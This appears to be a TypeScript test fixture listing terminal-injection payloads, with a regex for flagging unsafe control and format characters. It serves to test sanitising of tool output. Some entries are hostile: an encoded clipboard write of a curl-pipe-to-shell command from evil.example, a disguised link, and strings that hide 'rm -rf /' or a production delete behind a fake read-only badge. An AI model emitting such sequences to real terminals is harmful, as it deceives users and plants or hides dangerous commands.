// A corpus of terminal-injection payloads: what a hostile MCP server, model, Dockerfile,
// config or transcript could put into a string that ends up on the user's screen.
// Each is wrapped in BEFORE…AFTER by the tests, to check the text around it stays readable.
export const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

export const PAYLOADS: Record<string, string> = {
  'OSC 0 window title (BEL)': `${ESC}]0;pwned: all calls approved${BEL}`,
  'OSC 2 window title (ST)': `${ESC}]2;kaptain-kube — safe${ST}`,
  'OSC 52 clipboard write': `${ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=${BEL}`,
  'OSC 8 hyperlink with a harmless label': `${ESC}]8;;https://evil.example/steal${ST}docs${ESC}]8;;${ST}`,
  'OSC 1337 file transfer (iTerm2)': `${ESC}]1337;File=name=eC5zaA==;inline=1:ZWNobyBo${BEL}`,
  'OSC unterminated': `${ESC}]0;this title never ends`,
  'CSI 2J clear screen + home': `${ESC}[2J${ESC}[H`,
  'CSI cursor up + erase line (rewrite the card)': `${ESC}[1A${ESC}[2K  [read-only] kubectl get pods`,
  'CSI absolute cursor position': `${ESC}[5;1Hoverwritten`,
  'CSI alternate screen': `${ESC}[?1049h`,
  'CSI window title report (answer-back)': `${ESC}[21t`,
  'CSI bracketed-paste end': `${ESC}[201~`,
  'CSI cursor style with intermediate': `${ESC}[0 q`,
  'SGR conceal hides text': `${ESC}[8mdelete namespace prod${ESC}[28m`,
  'SGR black on black': `${ESC}[30;40minvisible${ESC}[0m`,
  'SGR green fakes the read-only badge': `${ESC}[32m[read-only]${ESC}[39m`,
  '8-bit CSI 0x9B clear': '\u009b2J',
  '8-bit OSC 0x9D title, 0x9C ST': '\u009d0;pwned\u009c',
  '8-bit DCS 0x90': '\u0090+q544e\u009c',
  'C1 NEL 0x85': 'line\u0085next',
  'DCS sixel': `${ESC}Pq#0;2;0;0;0#1;2;100;100;0~~@@vv${ST}`,
  'APC kitty graphics': `${ESC}_Gf=100,a=T;iVBORw0KGgo=${ST}`,
  'PM privacy message': `${ESC}^hidden${ST}`,
  'SOS string': `${ESC}Xstart of string${ST}`,
  'ESC c full reset': `${ESC}c`,
  'ESC 7 / ESC 8 save and restore cursor': `${ESC}7moved${ESC}8`,
  'lone ESC at the end': ESC,
  BEL: `ding${BEL}ding`,
  'backspace overwrite a\\bX': 'a\bX',
  'backspaces rewrite a command': 'rm -rf /\b\b\b\b\b\b\b\bls -l   ',
  'lone CR overwrites the line': 'delete everything\r[read-only] list pods',
  NUL: 'a\u0000b',
  DEL: 'a\u007fb',
  'vertical tab and form feed': 'a\u000bb\u000cc',
  'RLO U+202E reverses text': 'invoice\u202Efdp.exe',
  'LRE/RLE/PDF embeddings': '\u202Aabc\u202B\u202C',
  'LRO override': '\u202Dabc\u202C',
  'bidi isolates U+2066–U+2069': '\u2066a\u2067b\u2068c\u2069',
  'LRM / RLM / ALM marks': 'a\u200Eb\u200Fc\u061Cd',
  'zero-width space in a name': 'kube\u200Bctl',
  'word joiner and BOM': 'a\u2060b\uFEFFc',
  'soft hyphen': 'de\u00ADlete',
  'tag characters (hidden ASCII)': 'ok\u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}',
  'line and paragraph separators': 'a\u2028b\u2029c',
  'lone surrogate': 'a\uD800b',
};

/** What must never reach a terminal from outside: C0 (but \t \n), DEL, C1, format characters, separators, lone surrogates. */
export const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029]|[\p{Cf}\p{Cs}]/u;
